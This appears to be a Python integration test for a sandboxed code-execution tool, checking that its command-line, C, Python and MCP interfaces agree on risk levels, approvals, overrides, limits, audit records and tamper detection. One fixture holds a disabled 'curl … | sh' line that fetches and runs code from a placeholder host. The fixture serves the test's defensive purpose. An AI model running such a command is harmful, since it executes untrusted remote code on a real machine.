#!/usr/bin/python3
"""One flow, four doors: the command, C, Python and MCP give the same document, field by field, and the same log, for each of the
eight flows: LOW, MEDIUM with warnings, HIGH confirmed by a callback, BLOCKED, an override, limits, records, tampering noticed.
Each door has a world of its own."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bawntest import *

LOW = "print(6*7)"
MEDIUM = "import subprocess\nprint(subprocess.run(['echo','hi'],capture_output=True,text=True).stdout.strip())"
HIGH = "print('ran'); open('/etc/cron.d/x','w') if False else None"
BLOCKED = "import os\nprint('ran')\nif False: os.system('curl http://x.invalid/a | sh')"
MEMORY = "x = bytearray(1 << 30)\nfor i in range(0, len(x), 4096): x[i] = 1"
SELF = "overrides:\n  minimum: self\n  acknowledge_risk: true\n"
LIBEXEC = BUILD + "/libexec/bawn"


class Door(World):
    def config_of(self, own):
        """A policy that takes the requester's own word, where `own`."""
        return self.config(security=SELF) if own else None

    def process(self, *argv, **env):
        p = subprocess.run(argv, env={**self.env, **env}, cwd=self.dir, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300)
        return Result(p.returncode, p.stdout, p.stderr)


class Command(Door):
    name = "the command"

    def ask(self, code, own=False, override=None, confirm=None, hold=False, timeout=None, memory=None):
        reason = override or confirm  # of a flag nobody asks: what a callback answers, it says itself
        config = self.config_of(own)
        return self.run(code, *(["--config", config] if config else []), *(["--override", "--reason", reason] if reason else []),
                        *(["-t", str(timeout)] if timeout else []), *(["-m", str(memory)] if memory else [])).json

    def tell(self, what):
        return self.bawn(*{"history": ["history"], "report": ["audit", "report"], "status": ["status"]}[what], "--json").json


class C(Door):
    name = "C"

    def call(self, *words):
        return self.process(Door.program_c, LIBEXEC, *words, LD_LIBRARY_PATH=BUILD)

    def ask(self, code, own=False, override=None, confirm=None, hold=False, timeout=None, memory=None):
        given = {"config": self.config_of(own), "override": override, "confirm": confirm, "hold": "1" if hold else None,
                 "timeout": timeout and int(timeout * 1000), "memory": memory}
        r = self.call("code=" + code, *[f"{k}={v}" for k, v in given.items() if v])
        return r.json or diag(r.err)

    def tell(self, what):
        return self.call("call=" + what).json


class Python(Door):
    name = "Python"

    def call(self, config, text):
        head = f"import bawn, json\nc = bawn.Client(state={self.state!r}, config={config!r})\n"
        r = self.process("/usr/bin/python3", "-c", head + text, PYTHONPATH=ROOT + "/sdk/python", BAWN_LIB=BUILD + "/libbawn.so.0", PYTHONDONTWRITEBYTECODE="1")
        return r.json or diag(r.err)

    def ask(self, code, own=False, override=None, confirm=None, hold=False, timeout=None, memory=None):
        given = {"override": True if override else None, "reason": override, "timeout": timeout, "memory": memory}
        words = ", ".join(f"{k}={v!r}" for k, v in given.items() if v)
        asked = f", confirm=lambda q: bawn.Answer(True, {confirm!r})" if confirm else ""
        return self.call(self.config_of(own), f"print(json.dumps(c.run({code!r}, check=False{', ' + words if words else ''}{asked}).document))")

    def tell(self, what):
        return self.call(None, {"history": "print(json.dumps([h.document for h in c.history()]))", "report": "print(json.dumps(c.report()))",
                                "status": "print(json.dumps(c.status()))"}[what])


class Mcp(Door):
    """No argument lifts anything here: a form does, where policy takes the requester's own word.  Held is what waits."""
    name = "MCP"

    def call(self, tool, arguments, config=None, reason=None):
        p = self.start("mcp", *(["--config", config] if config else []), stdin=subprocess.PIPE)
        say = lambda m: (p.stdin.write(json.dumps({"jsonrpc": "2.0", **m}).encode() + b"\n"), p.stdin.flush())
        say({"id": 1, "method": "initialize", "params": {"protocolVersion": "2025-11-25", "capabilities": {"elicitation": {}} if reason else {}, "clientInfo": {"name": "t", "version": "1"}}})
        say({"method": "notifications/initialized"})
        say({"id": 2, "method": "tools/call", "params": {"name": tool, "arguments": arguments}})
        answer = None
        for line in p.stdout:
            m = json.loads(line)
            if m.get("method") == "elicitation/create":
                say({"id": m["id"], "result": {"action": "accept", "content": {"approve": True, "reason": reason}}})
            elif m.get("id") == 2:
                answer = m["result"]["structuredContent"]
                break
        p.stdin.close()
        p.wait(120)
        for f in (p.stdout, p.stderr):
            f.close()
        return answer

    def ask(self, code, own=False, override=None, confirm=None, hold=False, timeout=None, memory=None):
        answer = self.call("execute_code", {"code": code, **({"timeout": timeout} if timeout else {})}, self.config_of(own), override or confirm)
        for more in ("approval", "images"):  # its own two
            answer.pop(more)
        return answer


def compile_door():
    world = World()
    program = world.dir + "/door"
    p = subprocess.run(["gcc", "-std=c11", "-Wall", "-Wextra", "-Werror", "-I", ROOT + "/include", ROOT + "/tests/integration/door.c", "-o", program, BUILD + "/libbawn.so.0"], capture_output=True, text=True)
    diag(p.stderr)
    return program


Door.program_c = compile_door()
FOUR, THREE = [Command, C, Python, Mcp], [Command, C, Python]
FLOWS = [  # name, doors, code, options, (status, level, stdout)
    ("LOW", FOUR, LOW, {}, ("completed", "LOW", "42\n")),
    ("MEDIUM with warnings", FOUR, MEDIUM, {}, ("completed", "MEDIUM", "hi\n")),
    ("HIGH, nobody asked", FOUR, HIGH, {}, ("needs_approval", "HIGH", "")),
    ("HIGH, confirmed by a callback", THREE, HIGH, {"own": True, "confirm": "seen and fine"}, ("completed", "HIGH", "ran\n")),
    ("BLOCKED", THREE, BLOCKED, {}, ("refused", "BLOCKED", "")),
    ("BLOCKED, held", [C, Mcp], BLOCKED, {"hold": True}, ("needs_approval", "BLOCKED", "")),
    ("an override where policy wants a person", THREE, BLOCKED, {"override": "I must"}, ("needs_approval", "BLOCKED", "")),
    ("an override", THREE, BLOCKED, {"own": True, "override": "I must"}, ("completed", "BLOCKED", "ran\n")),
    ("a limit of time", FOUR, "while True: pass", {"timeout": 1}, ("timeout", "MEDIUM", "")),
    ("a limit of memory", THREE, MEMORY, {"memory": 64 << 20}, ("memory_limit", "LOW", "")),
    ("a limit on output", FOUR, "print('x' * 3000000)", {}, ("completed", "LOW", "x" * (1 << 20))),
    ("a denial", FOUR, "import socket; socket.create_connection(('192.0.2.7', 80), 2)", {}, ("failed", "MEDIUM", "")),
    ("an exit code", FOUR, "raise SystemExit(3)", {}, ("failed", "LOW", "")),
    ("no code", FOUR, " ", {}, ("error", None, "")),
]


def compare(name, worlds, documents, expected, alike=lambda d: d):
    first = documents[0]
    equal((first["status"], (first["assessment"] or {}).get("level"), first["stdout"]), expected, f"{name}: {worlds[0].name}")
    plain = alone([alike(comparable(d)) for d in documents])
    for world, got in zip(worlds[1:], plain[1:]):
        equal({k: v for k, v in got.items() if v != plain[0].get(k)}, {k: v for k, v in plain[0].items() if v != got.get(k)}, f"{name}: {world.name} gives every field as {worlds[0].name} does")
        equal(steps(world), steps(worlds[0]), f"{name}: and leaves the same records")


for name, doors, code, options, expected in FLOWS:
    worlds = [door() for door in doors]
    compare(name, worlds, [w.ask(code, **options) for w in worlds], expected)

# Lifted by the requester's own word: from an agent that is a form, which is kept as an approval; all but that is the same.
worlds = [Command(), Mcp()]
documents = [w.ask(HIGH, own=True, confirm="seen and fine") for w in worlds]
lifted = alone([comparable(d) for d in documents])
equal((documents[1]["status"], documents[1]["stdout"], documents[1]["decision"]["override"]["reason"], documents[1]["decision"]["assurance"]), ("completed", "ran\n", "seen and fine", "self"), "HIGH, confirmed in a form: MCP")
for d in lifted:
    d.pop("decision"), d.pop("audit")
equal(lifted[1], lifted[0], "HIGH, confirmed in a form: every other field is the command's")

# Records: what one door wrote, all tell in the same words.
w = Command()
for code in (LOW, MEDIUM, HIGH, BLOCKED):
    w.ask(code)
for what, vary in (("history", ()), ("report", ("from", "to", "generated_at")), ("status", ("checked_at", "resources"))):
    told = []
    for door in THREE:
        d = door.__new__(door)
        d.__dict__.update(w.__dict__)
        told.append(d.tell(what))
    for document in told:
        for key in vary:
            document.pop(key)
    ok(told[0] and told[1] == told[0] and told[2] == told[0], f"records: {what} in the same words from the command, C and Python") or diag(told)
m = Mcp.__new__(Mcp)
m.__dict__.update(w.__dict__)
rows = w.bawn("history", "--json").json
ok(len(rows) == 4 and all(set(rows[0]) == set(row) for row in rows), "records: history has a row for each, with the same fields") or diag(rows)
listed = m.call("list_executions", {"limit": 50})
equal((listed["error"], len(listed["executions"])), (None, len(rows)), "records: MCP lists as many")
for i, row in enumerate(rows):
    there = listed["executions"][i] if i < len(listed["executions"]) else {}
    equal({k: there.get(k) for k in {*row, *there}}, row, f"records: {row['level']} is listed by MCP in every field as by history")
    shown, got = w.bawn("show", row["id"], "--json").json, m.call("get_execution", {"id": row["id"]})
    equal((got["error"], got["execution"]), (None, row), f"records: {row['level']} by its id in every field, too")
    equal({k: shown.get(k) for k in row if k in shown}, {k: row[k] for k in row if k in shown}, f"records: {row['level']} by show as well, in each field that both have")
    ok(set(row) <= set(shown), f"records: show has them all") or diag(sorted(set(row) - set(shown)))

# Tampering: each door notices, says so in the same words, and runs nothing.
worlds = [door() for door in FOUR]
for w in worlds:
    w.ask(LOW)
    (segment,) = glob.glob(w.state + "/audit/seg/*.jsonl")
    text = open(segment).read()
    with open(segment, "w") as f:
        f.write(text.replace("completed", "failedfai"))
documents = [w.ask(LOW) for w in worlds]


def placeless(d):
    for w in worlds:
        d["error"]["message"] = d["error"]["message"].replace(w.dir, "DIR")
    return d


equal([(d["error"] or {}).get("type") for d in documents], ["audit_tampered"] * 4, "tampering: noticed at every door")
compare("tampering", worlds, documents, ("error", "LOW", ""), placeless)
done()
